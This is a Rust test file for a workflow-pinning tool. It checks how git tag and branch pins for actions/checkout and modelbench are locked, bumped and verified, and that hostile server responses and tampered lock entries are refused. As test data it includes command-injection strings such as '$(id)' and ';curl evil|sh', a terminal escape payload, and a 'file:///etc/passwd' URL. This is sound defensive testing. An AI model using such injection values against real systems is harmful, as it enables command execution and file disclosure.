//! `git` pins: the spec's `[workflow]` table (actions/checkout by a tag constraint,
//! modelbench by a branch) resolved through a loopback smart HTTP ref advertisement,
//! written into the emitted GitHub workflow, moved by `bump`, re-checked by `verify
//! --against-upstream`, and refused when the server or a lock edit is hostile.

use modelbench::lock::{ArtifactWire, Lock, LockWire};

use crate::support::project::{Project, artifact};
use crate::support::world::{Response, World, git_commit_id};
use crate::support::{Output, run};

const CHECKOUT: &str = "actions/checkout";
const MODELBENCH_GIT: &str = "https://github.com/acme/modelbench.git";

/// actions/checkout's refs as GitHub advertises them: the moving major tag `v4`, the
/// release tags (v4.2.2 annotated, so peeled), a prerelease and the next major.
fn checkout_refs(newest_v4: &str) -> Vec<(String, String)> {
    let mut refs = vec![
        (git_commit_id("main"), "HEAD".to_string()),
        (git_commit_id("main"), "refs/heads/main".to_string()),
        (git_commit_id(newest_v4), "refs/tags/v4".to_string()),
        (git_commit_id("v4.2.1"), "refs/tags/v4.2.1".to_string()),
        (
            git_commit_id("tag object v4.2.2"),
            "refs/tags/v4.2.2".to_string(),
        ),
        (git_commit_id("v4.2.2"), "refs/tags/v4.2.2^{}".to_string()),
        (
            git_commit_id("v4.4.0-beta.1"),
            "refs/tags/v4.4.0-beta.1".to_string(),
        ),
        (git_commit_id("v5.0.0"), "refs/tags/v5.0.0".to_string()),
    ];
    if newest_v4 == "v4.3.0" {
        refs.push((git_commit_id("v4.3.0"), "refs/tags/v4.3.0".to_string()));
    }
    refs
}

fn serve(world: &World, repo: &str, refs: &[(String, String)]) {
    let refs: Vec<(&str, &str)> = refs.iter().map(|(s, n)| (s.as_str(), n.as_str())).collect();
    world.git_refs_fixture(repo, &refs);
}

fn serve_modelbench(world: &World, head: &str) {
    serve(
        world,
        "acme/modelbench.git",
        &[
            (git_commit_id(head), "HEAD".to_string()),
            (git_commit_id(head), "refs/heads/main".to_string()),
            (git_commit_id("dev"), "refs/heads/dev".to_string()),
        ],
    );
}

struct Setup {
    world: World,
    project: Project,
}

impl Setup {
    /// A project whose spec pins checkout `v4` and modelbench's `main`, with both
    /// repositories served by the world as the `github` upstream.
    fn new() -> Setup {
        let world = World::start();
        let (base, host) = crate::bump::base_image(&world);
        serve(&world, CHECKOUT, &checkout_refs("v4.2.2"));
        serve_modelbench(&world, "main 1");
        let project = Project::new();
        project
            .sources_file()
            .github_git(&world)
            .registry(&host)
            .write();
        project.spec(&format!(
            r#"[image]
name = "mb-git"
tag = "t1"
platforms = ["linux/amd64"]

[base]
image = "{base}"

[workflow]
checkout = "v4"
modelbench = {{ git = "{MODELBENCH_GIT}", branch = "main" }}
"#
        ));
        Setup { world, project }
    }

    /// `modelbench <args>` with the world as its upstreams (for commands that resolve).
    fn resolving(&self, args: &[&str]) -> Output {
        let mut full: Vec<&str> = args.to_vec();
        full.extend(["--sources", "sources.toml"]);
        run(&mut self.project.command(&full))
    }

    fn workflow(&self) -> String {
        self.project.emit_ok(&["--github-workflow"]);
        self.project.read(".github/workflows/modelbench-bump.yml")
    }

    fn locked(&self, name: &str) -> (String, String) {
        let lock = self.project.lock_toml();
        let entry = artifact(&lock, "git", name);
        (
            entry["version"].as_str().unwrap().to_string(),
            entry["commit"].as_str().unwrap().to_string(),
        )
    }
}

#[test]
fn lock_pins_the_workflow_checkout_and_modelbench_by_commit() {
    let s = Setup::new();
    s.project.lock_ok(&[]);
    let lock = s.project.lock_toml();
    let checkout = artifact(&lock, "git", CHECKOUT);
    assert_eq!(checkout["requested"].as_str(), Some("tag v4"));
    // The newest v4.x.y (not the moving `v4`, not the prerelease, not v5), peeled.
    assert_eq!(checkout["version"].as_str(), Some("v4.2.2"));
    assert_eq!(
        checkout["commit"].as_str(),
        Some(git_commit_id("v4.2.2").as_str())
    );
    assert_eq!(
        checkout["repository"].as_str(),
        Some("https://github.com/actions/checkout")
    );
    // Nothing to download into the image: no platform pins.
    assert!(
        checkout["platform"].as_table().unwrap().is_empty(),
        "{checkout:?}"
    );
    let modelbench = artifact(&lock, "git", "modelbench");
    assert_eq!(modelbench["requested"].as_str(), Some("branch main"));
    assert_eq!(modelbench["version"].as_str(), Some("main"));
    assert_eq!(
        modelbench["commit"].as_str(),
        Some(git_commit_id("main 1").as_str())
    );
    assert_eq!(modelbench["repository"].as_str(), Some(MODELBENCH_GIT));
    s.project.lock_ok(&["--check"]);

    let workflow = s.workflow();
    let checkout_line = format!(
        "      - uses: actions/checkout@{} # v4.2.2\n",
        git_commit_id("v4.2.2")
    );
    assert_eq!(workflow.matches(&checkout_line).count(), 2, "{workflow}");
    let install = format!(
        "        run: cargo install --locked --git '{MODELBENCH_GIT}' --rev {} modelbench\n",
        git_commit_id("main 1")
    );
    assert_eq!(workflow.matches(&install).count(), 2, "{workflow}");
    assert!(!workflow.contains("vars.MODELBENCH_GIT_REV"), "{workflow}");
    assert!(
        !workflow.contains("11bd71901bbe"),
        "the built-in pin is not used"
    );

    let why = s.project.run(&["why", CHECKOUT, "specs/test.toml"]);
    assert!(why.success(), "{}", why.combined());
    why.assert_stdout_contains("[workflow] checkout = \"v4\"");
    let sbom = s.project.run(&["sbom", "specs/test.toml"]);
    assert!(sbom.success(), "{}", sbom.combined());
    assert!(
        !sbom.stdout.contains("actions/checkout"),
        "CI code is not in the image's bill: {}",
        sbom.stdout
    );
}

#[test]
fn emit_refuses_a_workflow_pin_the_spec_no_longer_asks_for() {
    let s = Setup::new();
    s.project.lock_ok(&[]);
    // The spec now asks for another repository: the locked commit is not its answer.
    let spec = s.project.read("specs/test.toml").replace(
        MODELBENCH_GIT,
        "https://github.com/acme/modelbench-fork.git",
    );
    s.project.spec(&spec);
    let output = s.project.emit(&["--github-workflow"]);
    assert!(!output.success(), "{}", output.combined());
    assert!(
        output.stderr.contains("git `modelbench`")
            && output.stderr.contains("run `modelbench lock`"),
        "{}",
        output.stderr
    );
    assert!(!s.project.exists(".github"), "nothing written");
}

#[test]
fn bump_moves_checkout_to_the_newest_v4_tag_and_the_workflow_follows() {
    let s = Setup::new();
    s.project.lock_ok(&[]);
    let before = s.workflow();
    let old_lock = s.project.read("lock/test/bench.lock");
    s.project.write("old.lock", &old_lock);

    // Upstream: a new v4 release, and main moves on.
    serve(&s.world, CHECKOUT, &checkout_refs("v4.3.0"));
    serve_modelbench(&s.world, "main 2");
    let output = s.resolving(&["bump", "specs/test.toml"]);
    assert!(output.success(), "{}", output.combined());
    let short = |message: &str| git_commit_id(message)[..12].to_string();
    for line in [
        "Updating git actions/checkout v4.2.2 -> v4.3.0".to_string(),
        // A branch moving on is an update, not a republish.
        format!(
            "Updating git modelbench main@{} -> main@{}",
            short("main 1"),
            short("main 2")
        ),
    ] {
        assert!(output.stderr.contains(&line), "{line}\n{}", output.stderr);
    }
    assert!(!output.stderr.contains("republished"), "{}", output.stderr);
    output.assert_stderr_contains("a [workflow] pin moved: once the lock lands, run `modelbench emit specs/test.toml --github-workflow`");
    assert_eq!(
        s.locked(CHECKOUT),
        ("v4.3.0".to_string(), git_commit_id("v4.3.0"))
    );
    assert_eq!(
        s.locked("modelbench"),
        ("main".to_string(), git_commit_id("main 2"))
    );

    // The table a bump pull request carries shows both moves.
    let diff = s.project.run(&["diff", "old.lock", "lock/test/bench.lock"]);
    assert!(diff.success(), "{}", diff.combined());
    diff.assert_stdout_contains("v4.2.2");
    diff.assert_stdout_contains("v4.3.0");
    assert!(
        diff.stdout.contains("| modelbench | git | (commit) |")
            && diff
                .stdout
                .contains(&format!("`{}` → `{}`", short("main 1"), short("main 2"))),
        "{}",
        diff.stdout
    );
    assert!(
        // One diff for lock, bump and diff: the new tag and the branch's new head are both
        // updates (the branch named `main@commit`), neither a republish.
        diff.stdout.contains("2 updated") && !diff.stdout.contains('⚠'),
        "a branch that moves is no republish: {}",
        diff.stdout
    );

    let after = s.workflow();
    assert_ne!(before, after);
    assert!(
        after.contains(&format!(
            "uses: actions/checkout@{} # v4.3.0\n",
            git_commit_id("v4.3.0")
        )),
        "{after}"
    );
    assert!(after.contains(&git_commit_id("main 2")), "{after}");
    assert!(!after.contains(&git_commit_id("v4.2.2")), "{after}");

    // Nothing new upstream: nothing moves.
    let again = s.resolving(&["bump", "specs/test.toml"]);
    assert!(again.success(), "{}", again.combined());
    again.assert_stderr_contains("nothing to bump");
}

#[test]
fn against_upstream_flags_a_moved_tag_and_cannot_confirm_a_moved_branch() {
    let s = Setup::new();
    s.project.lock_ok(&[]);
    let fresh = s.resolving(&["verify", "specs/test.toml", "--against-upstream"]);
    assert!(fresh.success(), "{}", fresh.combined());
    assert!(
        fresh
            .stdout
            .contains(&format!("{:>12} git actions/checkout v4.2.2", "agrees")),
        "{}",
        fresh.stdout
    );
    assert!(
        fresh
            .stdout
            .contains(&format!("{:>12} git modelbench main", "agrees")),
        "{}",
        fresh.stdout
    );

    // Someone moves the v4.2.2 tag to another commit (same name, other SHA).
    let mut refs = checkout_refs("v4.2.2");
    for (sha, name) in &mut refs {
        if name == "refs/tags/v4.2.2^{}" {
            *sha = git_commit_id("v4.2.2 moved");
        }
    }
    serve(&s.world, CHECKOUT, &refs);
    serve_modelbench(&s.world, "main 2");
    let output = s.resolving(&["verify", "specs/test.toml", "--against-upstream"]);
    assert_eq!(output.status, Some(1), "{}", output.combined());
    assert!(
        output
            .stdout
            .contains(&format!("{:>12} git actions/checkout v4.2.2", "DIFFERS")),
        "{}",
        output.stdout
    );
    output.assert_stdout_contains(&format!(
        "    commit: locked {}, upstream {}",
        git_commit_id("v4.2.2"),
        git_commit_id("v4.2.2 moved")
    ));
    output.assert_stdout_contains(&format!(
        "cannot re-check: branch `main` has moved on to {}",
        git_commit_id("main 2")
    ));
    output.assert_stderr_contains("git `actions/checkout`");
}

#[test]
fn hostile_refs_are_refused_at_lock_naming_server_artifact_and_value() {
    let s = Setup::new();
    let good = git_commit_id("v4.2.3");
    let cases: Vec<(Vec<(String, String)>, &str)> = vec![
        (
            vec![(
                "11bd7190;touch$IFS/x;#0000000000000000000000".to_string(),
                "refs/tags/v4.2.3".to_string(),
            )],
            "11bd7190;touch$IFS/x;#",
        ),
        (
            vec![
                (good.clone(), "refs/tags/v4.2.3".to_string()),
                ("$(id)".to_string(), "refs/tags/v4.2.3^{}".to_string()),
            ],
            "`$(id)` is not a full git commit SHA",
        ),
        (
            vec![(
                good.clone(),
                "refs/tags/v4.2.3\u{1b}]0;pwned\u{7}".to_string(),
            )],
            "v4.2.3\\u{1b}]0;pwned\\u{7}",
        ),
        (
            vec![(good.to_uppercase(), "refs/tags/v4.2.3".to_string())],
            "40 lowercase hex",
        ),
    ];
    for (refs, needle) in cases {
        serve(&s.world, CHECKOUT, &refs);
        let output = s.project.lock(&[]);
        assert!(!output.success(), "{needle}: {}", output.combined());
        for expected in [
            "the git server of `https://github.com/actions/checkout`",
            "git `actions/checkout`",
            needle,
        ] {
            assert!(
                output.stderr.contains(expected),
                "`{expected}` missing:\n{}",
                output.stderr
            );
        }
        assert!(!output.stderr.contains('\u{1b}'), "{}", output.stderr);
        assert!(!s.project.lock_path().exists(), "nothing locked");
    }
    // A dumb HTTP server (or a login page) is not a ref advertisement.
    s.world.get(
        &format!("/git/{CHECKOUT}/info/refs?service=git-upload-pack"),
        Response::text("<html>sign in</html>"),
    );
    let output = s.project.lock(&[]);
    assert!(!output.success());
    output.assert_stderr_contains("is not a smart HTTP git server");
}

/// The fixture speaks git's protocol and computes git's ids: the real client lists the
/// same refs from it (`git ls-remote` over smart HTTP), and `git hash-object` gives the
/// same commit id.
#[test]
fn lock_fixture_is_what_real_git_reads() {
    use crate::support::tools::{GIT, require};
    if !require(&[&GIT]) {
        return;
    }
    let world = World::start();
    let refs = checkout_refs("v4.3.0");
    serve(&world, CHECKOUT, &refs);
    let home = crate::support::temp_dir();
    let output = std::process::Command::new("git")
        .args(["ls-remote", &world.url(&format!("/git/{CHECKOUT}"))])
        .env("HOME", home.path())
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .env("GIT_TERMINAL_PROMPT", "0")
        .output()
        .unwrap();
    assert!(output.status.success(), "{output:?}");
    let listed: Vec<(String, String)> = String::from_utf8(output.stdout)
        .unwrap()
        .lines()
        .map(|line| {
            let (sha, name) = line.split_once('\t').unwrap();
            (sha.to_string(), name.to_string())
        })
        .collect();
    assert_eq!(listed, refs);

    let object = "tree 4b825dc642cb6eb9a060e54bf8d69288fbee4904\n\
                  author Fixture <fixture@example.invalid> 1767225600 +0000\n\
                  committer Fixture <fixture@example.invalid> 1767225600 +0000\n\nv4.2.2\n";
    let mut child = std::process::Command::new("git")
        .args(["hash-object", "-t", "commit", "--stdin"])
        .env("HOME", home.path())
        .stdin(std::process::Stdio::piped())
        .stdout(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    use std::io::Write as _;
    child
        .stdin
        .take()
        .unwrap()
        .write_all(object.as_bytes())
        .unwrap();
    let output = child.wait_with_output().unwrap();
    assert!(output.status.success(), "{output:?}");
    assert_eq!(
        String::from_utf8(output.stdout).unwrap().trim(),
        git_commit_id("v4.2.2")
    );
}

/// Apply `edit` to the `git` entry `name`, reseal (as anyone can) and write the lock.
/// The edit happens in the lock's on-disk form: a typed entry cannot hold such values.
fn tamper(project: &Project, name: &str, edit: impl FnOnce(&mut ArtifactWire)) {
    let text = String::from_utf8(project.lock_bytes()).unwrap();
    let mut lock: LockWire = toml::from_str(&text).unwrap();
    edit(lock.artifacts.iter_mut().find(|a| a.name == name).unwrap());
    lock.reseal();
    std::fs::write(project.lock_path(), lock.to_bytes()).unwrap();
}

#[test]
fn tampered_git_entries_are_refused_by_lock_parse() {
    let s = Setup::new();
    s.project.lock_ok(&[]);
    let locked = s.project.lock_bytes();
    type Edit = fn(&mut ArtifactWire);
    let cases: [(&str, Edit, &str); 7] = [
        (
            CHECKOUT,
            |a| a.commit = Some("v4.2.2".into()),
            "commit `v4.2.2` is not a full git commit SHA",
        ),
        (
            "modelbench",
            |a| a.commit = Some(format!("{};curl evil|sh", &git_commit_id("x")[..20])),
            "is not a full git commit SHA",
        ),
        (CHECKOUT, |a| a.commit = None, "commit `` is not"),
        (
            "modelbench",
            |a| a.repository = Some("http://github.com/acme/modelbench.git".into()),
            "repository `http://github.com/acme/modelbench.git` is not an https URL",
        ),
        (
            "modelbench",
            |a| a.repository = Some("file:///etc/passwd".into()),
            "repository `file:///etc/passwd` is not an http(s) URL",
        ),
        (
            CHECKOUT,
            |a| a.version = "v4.2.2 # \nRUN id".into(),
            "version `v4.2.2 # \\nRUN id` is not a release tag",
        ),
        (
            CHECKOUT,
            |a| a.kind = modelbench::lock::Kind::Url,
            "url `actions/checkout` has no platform pins",
        ),
    ];
    for (name, edit, needle) in cases {
        std::fs::write(s.project.lock_path(), &locked).unwrap();
        tamper(&s.project, name, edit);
        let text = String::from_utf8(s.project.lock_bytes()).unwrap();
        let err = Lock::parse(&s.project.lock_path(), &text).unwrap_err();
        assert!(err.to_string().contains(needle), "{needle}: {err}");
        let emit = s.project.emit(&["--github-workflow"]);
        assert!(!emit.success(), "{needle}: {}", emit.combined());
        emit.assert_stderr_contains(needle);
        assert!(!s.project.exists(".github"), "nothing written");
    }
    // A commit on a kind that has none is an edit too.
    std::fs::write(s.project.lock_path(), &locked).unwrap();
    tamper(&s.project, "base", |a| {
        a.commit = Some(git_commit_id("x"));
    });
    let text = String::from_utf8(s.project.lock_bytes()).unwrap();
    let err = Lock::parse(&s.project.lock_path(), &text).unwrap_err();
    assert!(err.to_string().contains("absent for this kind"), "{err}");
}
